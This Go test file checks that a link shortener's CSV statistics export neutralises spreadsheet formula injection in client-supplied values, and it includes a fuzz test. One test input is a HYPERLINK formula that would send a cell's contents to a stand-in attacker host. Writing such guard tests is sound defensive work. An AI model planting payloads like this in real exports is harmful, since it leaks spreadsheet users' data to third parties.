package clicks

import (
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/edgekit/caddy-edgekit/shortener/link"
)

// readCSV is the cells of a CSV answer.
func readCSV(t *testing.T, body string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV %q: %v", body, err)
	}
	return rows
}

// formulaStart reports whether a spreadsheet would run cell as a formula.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// TestStatsCSVFormulaGuard: the values of a stats breakdown are what
// clients sent (a referrer, a city, a user agent): one a spreadsheet would
// run as a formula is written with a leading ', as the export writes it.
func TestStatsCSVFormulaGuard(t *testing.T) {
	values := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted", "example.com"}
	entries := make([]BreakdownEntry, len(values))
	for i, v := range values {
		entries[i] = BreakdownEntry{Value: v, Clicks: int64(i + 1)}
	}
	rec := httptest.NewRecorder()
	if err := WriteBreakdownCSV(rec, "x", DimReferrer, entries, false); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, rec.Body.String())
	if len(rows) != len(values)+1 {
		t.Fatalf("got %d rows, want %d", len(rows), len(values)+1)
	}
	for i, v := range values {
		cell := rows[i+1][0]
		if formulaStart(cell) {
			t.Errorf("breakdown cell of %q = %q: a formula", v, cell)
		}
		if want := strings.ReplaceAll(v, "\r\n", "\n"); link.CSVUncell(cell) != want {
			t.Errorf("breakdown cell of %q = %q, want %q once unguarded", v, cell, want)
		}
	}
}

// FuzzStatsCSV: whatever the breakdown values, no cell of the breakdown or
// series CSV starts with = + - @ TAB or CR (a guarded cell starts with '),
// and each value reads back exactly once unguarded.
func FuzzStatsCSV(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+", "-x", "@a", "\tx", "\rx", "'", "''=", "a,b\"c\nd"} {
		f.Add(s, int64(3))
	}
	f.Fuzz(func(t *testing.T, v string, n int64) {
		n = max(n, 0)
		rec := httptest.NewRecorder()
		if err := WriteBreakdownCSV(rec, "x", DimCity, []BreakdownEntry{{Value: v, Clicks: n}}, false); err != nil {
			t.Fatal(err)
		}
		rows := readCSV(t, rec.Body.String())
		rec = httptest.NewRecorder()
		u := n
		pts := []SeriesPoint{{Start: time.Unix(n%1e9, 0).UTC(), Clicks: n, People: n, Bots: 0, Uniques: &u}}
		if err := WriteSeriesCSV(rec, "code", pts); err != nil {
			t.Fatal(err)
		}
		rows = append(rows, readCSV(t, rec.Body.String())...)
		for _, row := range rows {
			for _, cell := range row {
				if formulaStart(cell) {
					t.Fatalf("cell %q of %q starts a formula", cell, rows)
				}
			}
		}
		want := strings.ReplaceAll(v, "\r\n", "\n")
		if got := link.CSVUncell(strings.ReplaceAll(rows[1][0], "\r\n", "\n")); got != want && got != v {
			t.Fatalf("value %q read back as %q", v, got)
		}
	})
}
